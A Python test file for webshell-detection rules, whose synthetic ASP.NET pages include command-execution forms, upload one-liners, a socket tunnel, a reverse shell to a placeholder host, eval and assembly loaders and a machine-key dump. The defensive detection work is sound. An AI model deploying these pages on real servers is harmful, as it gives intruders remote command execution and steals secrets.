"""Rules and kept findings from the fourteenth unseen collection, a sample of public code taken by behaviour
(issue 14, helper X16).

The collection was not chosen by family: the library's code index was asked for what shells do
(``Process.Start(Request``, ``"/c " + Request``, ``eval(Request.Item[``, ``Assembly.Load(...Request``,
``Request.Files[0].SaveAs(``, ``System.Net.Sockets`` imported by a page ...) and every hit was kept or
rejected in the order returned (BENCHMARKS.md, "Unseen shells, fourteenth collection"). On first sight the
own rules missed two pages, both the oldest kind of command page: a form whose "program" and "arguments"
boxes are copied into a process - once through HTML inputs made server controls (``kusi.Value``), once in a
VB page without an @Page directive (``New ProcessStartInfo(cmdpath.text)``). The rule
``data/rules/posted_control_programs.yar`` matches that behaviour; the pages below reproduce it and the
ordinary pages closest to it. A second group keeps the behaviour findings on shapes of the sample. The
first six were found by the behaviour analysis alone (no YARA rule of ours fired): bare
``Process.Start(Request[...])`` one-liners, upload one-liners with no directive (C# and VB), a reGeorg-style
tunnel that listens instead of connecting, a TcpClient reverse shell and a JScript eval whose "unsafe" is
split inside a function; the others (a header-keyed XOR assembly loader, machine keys read by reflection, an
RSA-signed source compiled with CodeDom, a Process built by reflection) were found by both.
All pages were written for these tests: nothing is compiled or run, the commands and hosts are placeholders,
and none is a copy of a real shell.
"""

from __future__ import annotations

from .rule_tables import Page, rule_tables, sink_found_test

# --- the program (or a shell's arguments) typed into a control of the page ---------------------------
CONTROL_PROGRAMS: list[Page] = [
    (
        "html-input-program-and-args",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Diagnostics" %>\n'
        '<script runat="server">\nprotected void Go(object sender, EventArgs e) {\n'
        "  Process run = new Process();\n  run.StartInfo.FileName = exe.Value;\n"
        "  run.StartInfo.Arguments = opts.Value;\n  run.StartInfo.UseShellExecute = false;\n"
        "  run.StartInfo.RedirectStandardOutput = true;\n  run.Start();\n"
        "  result.InnerText = run.StandardOutput.ReadToEnd();\n}\n</script>\n"
        '<form runat="server"><input runat="server" id="exe" type="text" value="c:\\tools\\placeholder.exe" />\n'
        '<input runat="server" id="opts" type="text" value="/?" />\n'
        '<asp:Button runat="server" OnClick="Go" Text="Run" /><pre id="result" runat="server"></pre></form>',
    ),
    (
        "vb-page-without-directive-textbox",
        ".aspx",
        '<%@ Import Namespace="System.Diagnostics" %>\n<script runat="server">\n'
        "Sub Go(Src As Object, E As EventArgs)\n"
        "  Dim info As New ProcessStartInfo(prog.text)\n  info.UseShellExecute = False\n"
        "  info.RedirectStandardOutput = True\n  info.Arguments = args.text\n"
        "  Dim p As New Process()\n  p.StartInfo = info\n  p.Start()\n"
        "  shown.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd())\nEnd Sub\n</script>\n"
        '<form runat="server"><asp:TextBox id="prog" runat="server">placeholder.exe</asp:TextBox>\n'
        '<asp:TextBox id="args" runat="server" /><asp:Button runat="server" OnClick="Go" Text="Go" />\n'
        '<asp:Label id="shown" runat="server" /></form>',
    ),
    (
        "cs-shell-args-from-textarea",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Send(object s, EventArgs e) {\n'
        "  var psi = new System.Diagnostics.ProcessStartInfo();\n"
        '  psi.FileName = "powershell.exe";\n  psi.Arguments = "-NoProfile -Command " + script.Value;\n'
        "  psi.UseShellExecute = false;\n  System.Diagnostics.Process.Start(psi);\n}\n</script>\n"
        '<form runat="server"><textarea id="script" runat="server"></textarea>'
        '<asp:Button runat="server" OnClick="Send" Text="Send" /></form>',
    ),
    (
        "cs-new-psi-from-textbox-in-user-control",
        ".ascx",
        '<%@ Control Language="C#" %>\n<script runat="server">\nvoid Start_Click(object s, EventArgs e) {\n'
        '  var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(Tool.Text, "x"));\n'
        "}\n</script>\n"
        '<asp:TextBox ID="Tool" runat="server" /><asp:Button runat="server" OnClick="Start_Click" Text="Start" />',
    ),
]

CONTROL_PROGRAMS_ORDINARY: list[Page] = [
    (
        "ping-page-host-from-textbox",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Ping_Click(object s, EventArgs e) {\n'
        "  var p = new System.Diagnostics.Process();\n"
        '  p.StartInfo.FileName = "ping.exe";\n  p.StartInfo.Arguments = "-n 1 " + Host.Text;\n'
        "  p.StartInfo.UseShellExecute = false;\n  p.StartInfo.RedirectStandardOutput = true;\n"
        "  p.Start();\n  Output.Text = p.StandardOutput.ReadToEnd();\n}\n</script>\n"
        '<form runat="server"><asp:TextBox ID="Host" runat="server" />'
        '<asp:Button runat="server" OnClick="Ping_Click" Text="Ping" /><asp:Label ID="Output" runat="server" /></form>',
    ),
    (
        "fixed-iisreset-with-reason-box",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Restart_Click(object s, EventArgs e) {\n'
        '  Log.Text = "Restart requested: " + Reason.Text;\n'
        '  var psi = new System.Diagnostics.ProcessStartInfo("iisreset.exe", "/noforce");\n'
        "  System.Diagnostics.Process.Start(psi);\n}\n</script>\n"
        '<form runat="server"><asp:TextBox ID="Reason" runat="server" />'
        '<asp:Button runat="server" OnClick="Restart_Click" Text="Restart" /><asp:Label ID="Log" runat="server" /></form>',
    ),
    (
        "tool-path-from-app-settings",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Export_Click(object s, EventArgs e) {\n'
        "  var p = new System.Diagnostics.Process();\n"
        '  p.StartInfo.FileName = System.Configuration.ConfigurationManager.AppSettings["exporter"];\n'
        '  p.StartInfo.Arguments = "--month " + Month.SelectedValue;\n  p.Start();\n}\n</script>\n'
        '<form runat="server"><asp:TextBox ID="Note" runat="server" /><asp:DropDownList ID="Month" runat="server" />'
        '<asp:Button runat="server" OnClick="Export_Click" Text="Export" /></form>',
    ),
    (
        "help-page-describing-a-command-box",
        ".aspx",
        '<%@ Page Language="C#" %>\n<html><body><form runat="server"><asp:TextBox ID="Q" runat="server" />\n'
        "<p>Our support tool sets <code>psi.FileName = Tool.Text</code>? No: it only searches this help.</p>\n"
        "</form></body></html>",
    ),
]

CASES = (("EXT_WEBSHELL_Posted_Control_Runs_Program", CONTROL_PROGRAMS, CONTROL_PROGRAMS_ORDINARY),)

test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)


# --- shapes only the behaviour analysis found on first sight: kept found -------------------------------
BEHAVIOUR_ONLY: list[tuple[str, str, str, str]] = [
    (
        "process-start-request-one-liner",
        ".aspx",
        "process",
        '<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %><%Process.Start(Request["q"]);%>',
    ),
    (
        "upload-one-liner-without-directive",
        ".aspx",
        "upload-to-request-path",
        '<%if (Request.Files.Count!=0) { Request.Files[0].SaveAs(Server.MapPath(Request["to"])); }%>',
    ),
    (
        "vb-upload-one-liner-without-directive",
        ".aspx",
        "upload-to-request-path",
        '<% If Request.Files.Count <> 0 Then Request.Files(0).SaveAs(Server.MapPath(Request("to"))) %>',
    ),
    (
        "tunnel-that-listens-on-loopback",
        ".aspx",
        "socket",
        '<%@ Page Language="C#" EnableSessionState="True" %>\n<%@ Import Namespace="System.Net" %>\n'
        '<%@ Import Namespace="System.Net.Sockets" %>\n<script runat="server">\n'
        "protected void Page_Load(object sender, EventArgs e) {\n"
        '  string op = Request.QueryString.Get("op");\n'
        '  if (op == "L") {\n'
        '    var l = new TcpListener(IPAddress.Parse("127.0.0.1"), int.Parse(Request.QueryString.Get("p")));\n'
        '    l.Start(); Session.Add("s", l.AcceptSocket()); l.Stop();\n'
        '  } else if (op == "W") {\n'
        '    ((Socket)Session["s"]).Send(Request.BinaryRead(Request.TotalBytes));\n'
        '  } else if (op == "R") {\n'
        '    byte[] b = new byte[512]; int n = ((Socket)Session["s"]).Receive(b);\n'
        "    Response.OutputStream.Write(b, 0, n);\n  }\n}\n</script>",
    ),
    (
        "tcpclient-reverse-shell-fixed-host",
        ".aspx",
        "reverse-shell",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n<%@ Import Namespace="System.IO" %>\n'
        '<script runat="server">\nprotected void Page_Load(object sender, EventArgs e) {\n'
        '  using (var c = new TcpClient("192.0.2.1", 4444)) using (var s = c.GetStream()) {\n'
        "    var r = new StreamReader(s); var w = new StreamWriter(s); w.AutoFlush = true;\n"
        '    var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe";\n'
        "    p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardInput = true;\n"
        "    p.StartInfo.RedirectStandardOutput = true;\n"
        "    p.OutputDataReceived += (o, ev) => { w.WriteLine(ev.Data); };\n"
        "    p.Start(); p.BeginOutputReadLine();\n"
        "    string line; while ((line = r.ReadLine()) != null) p.StandardInput.WriteLine(line);\n  }\n}\n</script>",
    ),
    (
        "jscript-eval-unsafe-split-in-function",
        ".aspx",
        "eval-unsafe",
        '<%@ Page Language="Jscript" Debug=true%>\n<%\nfunction noop()\n{\n}\nfunction go()\n{\n'
        'var v=Request.Form["k"];\nvar a="uns",b="afe",m=a+b;\neval(v,m);\n}\ngo()\n%>',
    ),
    (
        "header-keyed-xor-assembly-loader",
        ".aspx",
        "assembly-load",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Reflection" %>\n<%\n'
        'string key = "0000000000000000";\nif (Request.Headers.Get("X-Probe") != null) {\n'
        '  byte[] d = Convert.FromBase64String(Request.Headers.Get("X-Data"));\n'
        "  for (int i = 0; i < d.Length; i++) { d[i] = (byte)(d[i] ^ (byte)key[i % 16]); }\n"
        '  Assembly.Load(d).CreateInstance("P").Equals(this);\n}\n%>',
    ),
    (
        "machine-keys-read-by-reflection",
        ".aspx",
        "machine-keys",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load() {\n'
        '  var web = System.Reflection.Assembly.Load("System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a");\n'
        '  var t = web.GetType("System.Web.Configuration.MachineKeySection");\n'
        '  var m = t.GetMethod("GetApplicationConfig", System.Reflection.BindingFlags.Static | System.Reflection.BindingFlags.NonPublic);\n'
        "  var cfg = (System.Web.Configuration.MachineKeySection)m.Invoke(null, new object[0]);\n"
        '  Response.Write(cfg.ValidationKey + " " + cfg.DecryptionKey);\n}\n</script>',
    ),
    (
        "signed-source-compiled-and-invoked",
        ".aspx",
        "compile",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="Microsoft.CSharp" %>\n'
        '<%@ Import Namespace="System.CodeDom.Compiler" %>\n<script runat="server">\n'
        "void Page_Load(object sender, EventArgs e) {\n"
        '  string src = Encoding.ASCII.GetString(Convert.FromBase64String(Request.Params["d"]));\n'
        '  var cp = new CompilerParameters(new string[] { "System.dll" }); cp.GenerateInMemory = true;\n'
        '  object o = new CSharpCodeProvider().CompileAssemblyFromSource(cp, src).CompiledAssembly.CreateInstance("A.B");\n'
        '  Response.Write(o.GetType().GetMethod("C").Invoke(o, new object[] { Request.Params["p"] }));\n}\n</script>',
    ),
    (
        "process-built-by-reflection",
        ".aspx",
        "reflection-by-name",
        '<%@ Page Language="C#" %>\n<script runat="server">\nprotected void Page_Load(object sender, EventArgs e) {\n'
        '  string c = Request["c"]; if (c == null) return;\n'
        '  var sys = System.Reflection.Assembly.Load("System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089");\n'
        '  var pt = sys.GetType("System.Diagnostics.Process"); var st = sys.GetType("System.Diagnostics.ProcessStartInfo");\n'
        "  var si = Activator.CreateInstance(st);\n"
        '  st.GetProperty("FileName").SetValue(si, "placeholder.exe");\n'
        '  st.GetProperty("Arguments").SetValue(si, c);\n'
        '  pt.GetMethod("Start", new Type[] { st }).Invoke(null, new object[] { si });\n}\n</script>',
    ),
]


test_behaviour_only_shape_stays_found = sink_found_test(BEHAVIOUR_ONLY)
